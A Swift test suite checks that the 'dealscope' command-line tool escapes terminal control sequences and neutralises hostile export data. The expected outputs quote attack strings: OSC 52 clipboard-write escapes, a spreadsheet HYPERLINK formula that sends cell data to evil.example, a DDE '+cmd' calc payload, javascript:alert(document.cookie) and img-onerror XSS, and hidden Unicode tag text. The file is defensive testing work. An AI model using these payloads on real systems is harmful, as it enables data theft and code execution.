import Foundation
import Testing

/// Faults found by probing the command line (issue 15): what it echoes, what it
/// writes, and which files it agrees to read.
@Suite("Probed faults: arguments")
struct ArgumentFaultTests {
    /// A file name and option values holding an OSC 52 clipboard write and a screen
    /// clear: the argument parser's own messages echo them.
    @Test(arguments: [
        ["validate", "x\u{1B}]52;c;aGVsbG8=\u{07}\u{1B}[2J.json"],
        ["deals", "--data", "x\u{1B}]52;c;aGVsbG8=\u{07}\u{1B}[2J.json"],
        ["export", "--format", "\u{1B}]52;c;aGVsbG8=\u{07}csv"],
        ["deals", "--bogus\u{1B}[2J"],
        ["validate", "a", "b\u{1B}[2J"],
    ])
    func argumentParserMessagesAreSanitized(_ args: [String]) throws {
        let r = try dealscope(args)
        #expect(r.status == 64 || r.status == 65, "\(r)")
        #expect(terminalHazards(r.stderrBytes) == [], "\(r)")
        #expect(terminalHazards(r.stdoutBytes) == [], "\(r)")
        #expect(r.stderr.contains("␛"), "the escape is shown, not dropped: \(r)")
    }

    @Test(.enabled(if: scriptCommand != nil, "needs `script` (util-linux) for a pseudo-terminal"))
    func aTERMValueWithEscapesIsSanitized() throws {
        let r = try dealscopeOnATerminal([], environment: ["TERM": "xterm\u{1B}]0;pwned\u{07}\u{1B}[2J"])
        #expect(r.status == 69, "\(r)")
        #expect(terminalHazards(r.stdoutBytes) == [], "\(r)")
        #expect(r.stdout.contains("xterm␛]0;pwned␇␛[2J"), "\(r)")
    }
}

/// Exports of a dataset whose names, titles and quotes are spreadsheet formulas,
/// HTML, Markdown links and invisible characters (issue 15, items 14 and 17).
@Suite("Probed faults: exports")
struct ExportFaultTests {
    static let data = Paths.fixture("hostile-export")

    /// The cells of an RFC 4180 CSV text.
    static func parseCSV(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false
        var chars = Array(text)[...]
        while let c = chars.popFirst() {
            if quoted {
                if c == "\"" {
                    if chars.first == "\"" { cell.append("\""); chars.removeFirst() } else { quoted = false }
                } else { cell.append(c) }
            } else if c == "\"" { quoted = true
            } else if c == "," { row.append(cell); cell = ""
            } else if c == "\n" { row.append(cell); rows.append(row); row = []; cell = ""
            } else { cell.append(c) }
        }
        if !cell.isEmpty || !row.isEmpty { row.append(cell); rows.append(row) }
        return rows
    }

    @Test func csvCellsAreNeverFormulas() throws {
        let r = try dealscope("export", "--format", "csv", "--data", Self.data)
        #expect(r.status == 0, "\(r)")
        let rows = Self.parseCSV(r.stdout)
        #expect(rows.count == 1 + 5 + 2)
        for row in rows {
            #expect(row.count == 12, "\(row)")
            for cell in row { #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "\(cell)") }
        }
        let formula = try #require(rows.first { $0[1] == "formula" })
        #expect(formula[2] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")
        #expect(rows.first { $0[1] == "plus" }?[2] == "'+cmd|' /C calc'!A0")
        #expect(rows.first { $0[1] == "at" }?[2] == "'@SUM(1+1)")
        #expect(rows.first { $0[1] == "minus" }?[2] == "'-2+3")
        // Invisible characters and controls are shown (not exactly the data: --raw is).
        let hidden = try #require(rows.first { $0[1] == "hidden" })
        #expect(hidden[2] == "Micro⟨ZWSP⟩soft ok⟨TAG i⟩⟨TAG g⟩⟨TAG n⟩⟨TAG o⟩⟨TAG r⟩⟨TAG e⟩")
        #expect(rows.first { $0[1] == "linked" }?[11].hasSuffix("a tab␉here") == true)
    }

    @Test func rawCSVIsExactlyTheData() throws {
        let r = try dealscope("export", "--format", "csv", "--raw", "--data", Self.data)
        #expect(r.status == 0, "\(r)")
        let rows = Self.parseCSV(r.stdout)
        let json = try #require(try dealscope("export", "--data", Self.data).json() as? [String: Any])
        let names = Dictionary(uniqueKeysWithValues: (json["partners"] as? [[String: Any]] ?? []).map { ($0["id"] as! String, $0["name"] as! String) })
        #expect(names.count == 5)
        for (id, name) in names { #expect(rows.first { $0[1] == id }?[2] == name, "\(id)") }
        #expect(rows.first { $0[1] == "linked" }?[11].hasSuffix("a tab\there") == true)
        #expect(try dealscope("export", "--format", "markdown", "--raw", "--data", Self.data).status == 64)
    }

    @Test(.enabled(if: scriptCommand != nil, "needs `script` (util-linux) for a pseudo-terminal"))
    func rawCSVIsNotWrittenToATerminal() throws {
        let r = try dealscopeOnATerminal(["export", "--format", "csv", "--raw", "--data", Self.data])
        #expect(r.status == 64, "\(r)")
        #expect(r.stdout.contains("redirect the output to a file"))
        #expect(terminalHazards(r.stdoutBytes) == [])
    }

    @Test func markdownHasNoTagsNorLinksFromTheData() throws {
        let r = try dealscope("export", "--format", "markdown", "--data", Self.data)
        #expect(r.status == 0, "\(r)")
        let text = r.stdout
        // Every character that opens a tag or a link is escaped (a '>' starting a
        // line is the export's own quote of evidence).
        let chars = Array(text)
        for (i, c) in chars.enumerated() where "<>[]".contains(c) && !(c == ">" && (i == 0 || chars[i - 1] == "\n")) {
            #expect(i > 0 && chars[i - 1] == "\\", "unescaped \(c) in …\(String(chars[max(0, i - 20)..<min(chars.count, i + 20)]))…")
        }
        #expect(text.contains("# Export \\<b\\>probe\\</b\\> \\[x\\](javascript:alert(1))"))
        #expect(text.contains("| acme | Acme \\<img src=x onerror=alert(1)\\> |  | 1 |"))
        #expect(text.contains("### See \\[the terms\\](javascript:alert(document.cookie))"))
        #expect(text.contains("| hidden | Micro⟨ZWSP⟩soft ok⟨TAG i⟩⟨TAG g⟩⟨TAG n⟩⟨TAG o⟩⟨TAG r⟩⟨TAG e⟩ |  | 1 |"))
        #expect(terminalHazards(r.stdoutBytes) == [])
    }

    @Test func showMakesInvisibleCharactersVisible() throws {
        let r = try dealscope("show", "hidden", "minus", "--data", Self.data)
        #expect(r.status == 0, "\(r)")
        #expect(r.stdout.contains("Micro⟨ZWSP⟩soft ok⟨TAG i⟩⟨TAG g⟩⟨TAG n⟩⟨TAG o⟩⟨TAG r⟩⟨TAG e⟩"))
        #expect(r.stdout.contains("Acme⟨ZWJ⟩ agreed"))
        #expect(!r.stdout.unicodeScalars.contains { $0.value == 0x200B || $0.value == 0x200D || (0xE0000...0xE007F).contains($0.value) })
    }
}
